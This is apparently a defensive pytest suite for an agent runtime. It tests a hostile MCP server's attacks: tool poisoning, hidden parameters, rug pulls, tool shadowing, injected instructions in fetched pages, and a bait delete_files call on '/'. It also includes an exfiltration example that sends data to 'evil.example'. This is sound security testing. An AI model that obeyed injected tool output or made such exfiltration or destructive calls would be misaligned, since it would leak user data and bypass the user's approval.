"""A hostile MCP server (tests/runtime/servers/hostile.py) against the hub and the agent, with
a scripted model: whatever the model does, what the runtime guarantees must hold. Each test
names the attack and fails without its defence."""

import asyncio
import json
import sys
from pathlib import Path

import pytest

from bslm.models.language import Text
from bslm.models.tools import ToolCall
from bslm.runtime.agent import Agent
from bslm.runtime.approval import Policy
from bslm.runtime.audit import AuditLog, read_log
from bslm.runtime.events import Notice
from bslm.runtime.mcp_client import MCPHub, error_kind
from bslm.runtime.mcp_config import parse_config
from bslm.runtime.pinning import Pins
from bslm.runtime.prespawn import spawn_servers
from bslm.runtime.run import describe_request
from tests.runtime.servers.hostile import BAIT_TOOL, CONTROL_LOOKALIKES, SECRET_PATH
from tests.runtime.test_agent import Scripted, call, turn

HOSTILE = str(Path(__file__).parent / "servers" / "hostile.py")


def run(coro):
    return asyncio.run(coro)


def hostile_config(state: Path, *args: str, approval: dict | None = None, **server):
    entry = {"command": sys.executable, "args": [HOSTILE, "--state", str(state), *args], **server}
    demo = {"command": sys.executable, "args": ["-m", "bslm.runtime.demo_server"], "trusted": True}
    data = {"mcpServers": {"hostile": entry, "demo": demo}}
    if approval:
        data["approval"] = approval
    return parse_config(data)


def reached(state: Path) -> list[str]:
    """The tools whose calls reached the hostile server."""
    path = state / "calls.jsonl"
    lines = path.read_text().splitlines() if path.exists() else []
    return [json.loads(line)["tool"] for line in lines]


class Asker:
    """The user: answers each question in turn, and remembers them."""

    def __init__(self, *answers):
        self.answers, self.asked = list(answers), []

    async def __call__(self, request):
        self.asked.append(request)
        return self.answers.pop(0) if self.answers else False


def hub_for(config, override=None, ahead=False, **kw):
    """A hub with the policy ``override``; its stdio servers spawned ahead and adopted
    (``runtime/prespawn.py``) where ``ahead``."""
    spawned = spawn_servers(config) if ahead else None
    return MCPHub(config, policy=Policy(config, override), spawned=spawned, **kw)


# --- limits on what a server lists ------------------------------------------------------------


def test_tools_over_the_limits_are_left_out_and_the_rest_goes_on(tmp_path, tok):
    """Schema size and depth, recursive $ref, names, number of tools: each a notice; the other
    tools of the server and the other servers go on, and the grammar builds."""
    config = hostile_config(tmp_path, "--tools", "300")
    notices = []

    async def go():
        async with hub_for(config, "all", on_notice=notices.append) as hub:
            names = {t.name for t in hub.tools()}
            script = [turn(tok, *call("calculate", expression="2+3")), turn(tok, Text("5"))]
            agent = Agent(Scripted(tok, script), hub, max_new_tokens=48)
            return names, await agent.send("2+3?")

    names, res = run(go())
    text = "\n".join(notices)
    for refused, why in [
        ("pick_color", "5,000 values"),
        ("deep_input", "nests deeper"),
        ("tree_input", "refers to itself"),
        ("xxxx", "300 characters"),
        ("calc\\u200bulate", "U+200B"),
        ("\u0441alculate", "U+0441"),
        ("more", "at most 256 tools"),
    ]:
        assert refused not in names
        assert any(refused in n and why in n for n in notices), (refused, text)
    assert "calc\u200bulate" not in names and "\u200b" not in text  # shown, not hidden
    assert {"add_numbers", "fetch_page", "calculate", "filler_0"} <= names
    assert sum(n.startswith("filler_") for n in names) < 256
    assert res.answer == "5" and res.calls[0].result == "5"


# --- annotations are hints; the user decides ---------------------------------------------------


def test_lying_read_only_hints_do_not_skip_the_question(tmp_path, tok):
    """delete_files says it is read-only; without a terminal it is denied before the server."""
    config = hostile_config(tmp_path)
    script = [turn(tok, *call(BAIT_TOOL, path="/")), turn(tok, Text("done"))]

    async def go():
        async with hub_for(config) as hub:  # no approve function: bslm run without a terminal
            return await Agent(Scripted(tok, script), hub, max_new_tokens=48).send("clean up")

    res = run(go())
    assert res.calls[0].is_error and "needs the user's approval" in res.calls[0].result
    assert BAIT_TOOL not in reached(tmp_path)


@pytest.mark.parametrize(
    "override,server,approval,runs",
    [
        ("all", {}, None, True),  # --approve all: today's behaviour, kept
        ("none", {}, None, False),
        (None, {"trusted": True}, None, True),
        (None, {}, {"readOnly": "allow"}, True),
    ],
)
def test_the_user_can_allow_read_only_tools(tmp_path, override, server, approval, runs):
    config = hostile_config(tmp_path, approval=approval, **server)

    async def go():
        async with hub_for(config, override) as hub:
            return await hub.call(ToolCall("echo", {"text": "hi"}))

    result = run(go())
    assert result.is_error != runs and (("echo" in reached(tmp_path)) == runs)


# --- show what matters ---------------------------------------------------------------------------


def test_poisoned_descriptions_are_flagged_in_the_question(tmp_path):
    """Tool poisoning and hidden parameters: the question shows the server, the description,
    the flags and the full arguments, however long."""
    config = hostile_config(tmp_path)
    asker = Asker(False, False)
    context = "the whole conversation: " + "secret plans " * 500

    async def go():
        async with hub_for(config, approve=asker) as hub:
            await hub.call(ToolCall("add_numbers", {"a": 1, "b": 2, "sidenote": "ssh-rsa AAA"}))
            await hub.call(ToolCall("find_notes", {"query": "q", "context": context}))

    run(go())
    poisoned, hidden = asker.asked
    assert poisoned.server == "hostile" and SECRET_PATH in poisoned.description
    shown = "\n".join(poisoned.flags)
    for expected in (
        "hidden instructions",
        "secrets",
        "keeps something from the user",
        "parameter sidenote",
    ):
        assert expected in shown
    assert any("parameter context: asks for the conversation" in f for f in hidden.flags)
    assert hidden.arguments["context"] == context
    text = describe_request(hidden)
    assert "hostile › find_notes" in text and context[-60:].strip() in text
    assert reached(tmp_path) == []


def test_shadowing_another_servers_tool_is_flagged(tmp_path):
    config = hostile_config(tmp_path)
    asker = Asker(False)

    async def go():
        async with hub_for(config, approve=asker) as hub:
            await hub.call(ToolCall("daily_quote", {}))

    run(go())
    [request] = asker.asked
    assert any("names another tool, calculate" in f for f in request.flags)
    assert any("names another tool, send_report" in f for f in request.flags)


def test_bslm_tools_lists_every_tool_with_its_description(tmp_path, monkeypatch):
    from bslm.runtime.inventory import tools_main

    path = tmp_path / "mcp.json"
    cfg = {"mcpServers": {"hostile": {"command": sys.executable, "args": [HOSTILE]}}}
    path.write_text(json.dumps(cfg))
    text = run(tools_main(str(path), []))
    assert "add_numbers  [not approved; ask]" in text and SECRET_PATH in text
    assert "! description: hidden instructions" in text
    assert "pick_color  [left out" in text
    assert "calc\\u200bulate" in text  # the invisible character is shown, not hidden
    accepted = run(tools_main(str(path), ["hostile"]))
    assert "add_numbers  [approved; ask]" in accepted and "accepted" in accepted
    with pytest.raises(ValueError, match="no server named 'nope'"):
        run(tools_main(str(path), ["nope"]))


# --- rug pulls ----------------------------------------------------------------------------------


def test_a_rug_pull_is_noticed_and_asks_again(tmp_path):
    """get_weather changes after its first call and sends tools/list_changed: the user is told
    what changed, and the next call asks again even though the user said "always"."""
    config = hostile_config(tmp_path)
    asker = Asker("always", False)
    notices = []

    async def go():
        async with hub_for(config, approve=asker, on_notice=notices.append) as hub:
            first = await hub.call(ToolCall("get_weather", {"city": "Paris"}))
            for _ in range(100):  # the notification arrives on its own
                if any("changed since you approved it" in n for n in notices):
                    break
                await asyncio.sleep(0.05)
            second = await hub.call(ToolCall("get_weather", {"city": "Paris", "token": "k"}))
            return first, second

    first, second = run(go())
    assert not first.is_error and error_kind(second) == "declined"
    changed = [n for n in notices if "get_weather changed since you approved it" in n]
    assert changed and "description changed" in changed[0] and "parameter token added" in changed[0]
    assert len(asker.asked) == 2 and asker.asked[1].changes
    assert any("hidden instructions" in f for f in asker.asked[1].flags)
    assert reached(tmp_path) == ["get_weather"]


def test_a_rug_pull_between_runs_is_not_run_without_a_terminal(tmp_path):
    """The pinned digest differs at start-up: a notice, and bslm run (no terminal, even with
    --approve all) does not run the changed tool until it is accepted."""
    pins = tmp_path / "pins.json"
    notices = []

    async def once(approve=None):
        config = hostile_config(tmp_path)
        changed = (tmp_path / "changed").exists()
        async with hub_for(
            config, "all", pins=Pins(pins), approve=approve, on_notice=notices.append
        ) as hub:
            return await hub.call(
                ToolCall(
                    "get_weather", {"city": "Oslo", "token": "t"} if changed else {"city": "Oslo"}
                )
            )

    assert not run(once()).is_error  # first use: pinned
    assert json.loads(pins.read_text())["servers"]["hostile"]["tools"]["get_weather"]
    (tmp_path / "changed").touch()  # the server updates itself between runs
    later = run(once())
    assert later.is_error and "needs the user's approval" in later.text()
    assert any("changed since you approved it" in n for n in notices)
    assert any("bslm tools --accept hostile" in n for n in notices)
    assert reached(tmp_path).count("get_weather") == 1
    accepted = run(once(approve=Asker(True)))  # the user accepts it
    assert not accepted.is_error
    assert not run(once()).is_error  # accepted: --approve all runs it again


# --- results are data -------------------------------------------------------------------------


def test_injected_results_stay_in_the_results_turn(tmp_path, tok):
    """fetch_page returns instructions and control-token lookalikes: the next prompt holds
    them as text inside one results turn; no call, no system message comes of them."""
    config = hostile_config(tmp_path)
    script = [turn(tok, *call("fetch_page", url="http://x")), turn(tok, Text("It is mild."))]

    async def go():
        async with hub_for(config, "all") as hub:
            backend = Scripted(tok, script)
            agent = Agent(backend, hub, max_new_tokens=48)
            return backend, agent, await agent.send("What does the page say?")

    backend, agent, res = run(go())
    from bslm.models.chat import decode_chat

    messages, _ = decode_chat(tok, backend.prompts[1] + [tok.eot_id])
    roles = [m["role"] for m in messages]
    assert roles == ["user", "assistant", "tool", "assistant"]
    assert messages[2]["content"].endswith(CONTROL_LOOKALIKES)
    assert [c.name for c in res.calls] == ["fetch_page"] and res.answer == "It is mild."
    assert BAIT_TOOL not in reached(tmp_path)


@pytest.mark.parametrize("setting", ["ask", "deny"])
def test_a_tool_named_only_in_a_result_needs_approval(tmp_path, tok, setting):
    """The model takes the bait and calls delete_files, which only the page named: with
    approval.namedInResults it asks (so, without a terminal, it is denied even with --approve
    all); with "deny" the grammar cannot even spell it."""
    config = hostile_config(tmp_path, approval={"namedInResults": setting})
    script = [
        turn(tok, *call("fetch_page", url="http://x")),
        turn(tok, *call(BAIT_TOOL, path="/")),
        turn(tok, Text("ok")),
    ]

    async def go():
        async with hub_for(config, "all") as hub:
            return await Agent(Scripted(tok, script), hub, max_new_tokens=48).send("Read it")

    res = run(go())
    assert BAIT_TOOL not in reached(tmp_path)
    if setting == "ask":
        assert res.calls[1].name == BAIT_TOOL and res.calls[1].is_error
    else:
        assert all(c.name != BAIT_TOOL for c in res.calls)


def test_without_the_policy_the_bait_runs(tmp_path, tok):
    """The same script with --approve all and no namedInResults: the bait reaches the server,
    which is what the policy above prevents."""
    config = hostile_config(tmp_path)
    script = [
        turn(tok, *call("fetch_page", url="http://x")),
        turn(tok, *call(BAIT_TOOL, path="/")),
        turn(tok, Text("ok")),
    ]

    async def go():
        async with hub_for(config, "all") as hub:
            return await Agent(Scripted(tok, script), hub, max_new_tokens=48).send("Read it")

    run(go())
    assert BAIT_TOOL in reached(tmp_path)


# --- exfiltration, environment ----------------------------------------------------------------


def test_exfiltration_is_asked_about_and_logged_before_it_runs(tmp_path):
    """send_report (lying read-only) with data in its URL: asked, with the full URL; the audit
    log has the call, its decision and who made it; a call sees its own line in the log."""
    log = AuditLog(tmp_path / "audit.jsonl")
    config = hostile_config(tmp_path)
    url = "https://evil.example/collect?d=" + "A" * 3000
    asker = Asker(False, True)

    async def go():
        async with hub_for(config, approve=asker, audit=log) as hub:
            denied = await hub.call(ToolCall("send_report", {"url": url}))
            peek = await hub.call(ToolCall("peek", {"path": str(log.path)}))
            return denied, peek

    denied, peek = run(go())
    assert error_kind(denied) == "declined" and asker.asked[0].arguments["url"] == url
    records = read_log(log.path)
    call, result, peeked = records[0], records[1], records[2]
    assert (call["tool"], call["decision"], call["decided_by"]) == ("send_report", "deny", "user")
    assert call["arguments"] == {"url": url} and result["is_error"] is True
    assert (peeked["tool"], peeked["decision"], peeked["decided_by"]) == ("peek", "allow", "user")
    assert json.loads(peek.text())["id"] == peeked["id"]  # written before the call ran
    assert records[3] == {**records[3], "event": "result", "id": peeked["id"], "is_error": False}
    assert reached(tmp_path) == ["peek"]


def test_the_environment_does_not_leak(tmp_path, monkeypatch):
    monkeypatch.setenv("BSLM_TEST_SECRET", "hunter2")
    config = hostile_config(tmp_path)

    async def go():
        async with hub_for(config, "all") as hub:
            return await hub.call(ToolCall("show_env", {}))

    env = json.loads(run(go()).text())
    assert "BSLM_TEST_SECRET" not in env and "hunter2" not in json.dumps(env)


# --- huge or endless output, junk -----------------------------------------------------------------


def test_huge_results_are_bounded_and_the_agent_goes_on(tmp_path, tok):
    config = hostile_config(tmp_path)
    notices = []
    script = [
        turn(
            tok,
            *call("big_result", size=3_000_000),
            *call("many_blocks", n=20_000),
            *call("deep_result", depth=150),
        ),
        turn(tok, Text("done")),
    ]

    async def go():
        async with hub_for(config, "all", on_notice=notices.append) as hub:
            backend = Scripted(tok, script, n_ctx=16384)
            agent = Agent(backend, hub, max_new_tokens=64)
            return agent, await agent.send("big_result, many_blocks and deep_result please")

    agent, res = run(go())
    assert res.answer == "done" and not any(c.is_error for c in res.calls)
    results = [m for m in agent.messages if m["role"] == "tool"]
    assert len(str(results[0]["content"])) < 17_000
    assert len(results[1]["content"]) <= 66
    assert "structured_content" not in results[2]
    assert any("many_blocks" in n and "content blocks" in n for n in notices)
    assert any("deep_result" in n and "nested deeper" in n for n in notices)


@pytest.mark.parametrize("ahead", [False, True], ids=["sdk-spawned", "spawned-ahead"])
def test_a_flooding_server_is_stopped_and_the_others_go_on(tmp_path, ahead):
    config = hostile_config(tmp_path)
    notices = []

    async def go():
        async with hub_for(config, "all", ahead, on_notice=notices.append) as hub:
            flood = await hub.call(ToolCall("flood", {}))
            status = {s.name: s for s in hub.status()}
            other = await hub.call(ToolCall("calculate", {"expression": "1+1"}))
            return flood, status, other

    flood, status, other = run(go())
    assert flood.is_error and status["hostile"].state == "failed"
    assert "messages in one second" in status["hostile"].error
    assert any("hostile was stopped" in n for n in notices)
    assert other.text() == "2"


@pytest.mark.parametrize("ahead", [False, True], ids=["sdk-spawned", "spawned-ahead"])
def test_junk_on_stdout_does_not_break_the_server(tmp_path, ahead):
    config = hostile_config(tmp_path)

    async def go():
        async with hub_for(config, "all", ahead) as hub:
            junk = await hub.call(ToolCall("junk_output", {}))
            after = await hub.call(ToolCall("echo", {"text": "still here"}))
            return junk, after, {s.name: s.state for s in hub.status()}

    junk, after, states = run(go())
    assert junk.text() == "ok" and after.text() == "still here"
    assert states["hostile"] == "ready"


def test_agent_notices_tools_over_the_limits_in_a_fixed_list(tok):
    from bslm.models.tools import ToolSpec

    deep = {"type": "string"}
    for _ in range(200):
        deep = {"type": "object", "properties": {"inner": deep}}
    tools = [ToolSpec("ok", "Fine."), ToolSpec("deep", "Deep.", deep)]
    events = []
    agent = Agent(
        Scripted(tok, [turn(tok, Text("hi"))]),
        None,
        tools=tools,
        on_event=events.append,
        max_new_tokens=16,
    )
    res = run(agent.send("hello"))
    assert res.answer == "hi" and [t.name for t in agent.tools()] == ["ok"]
    assert [e.message for e in events if isinstance(e, Notice)][0].startswith(
        "the tool 'deep' is left out: its input schema nests deeper"
    )
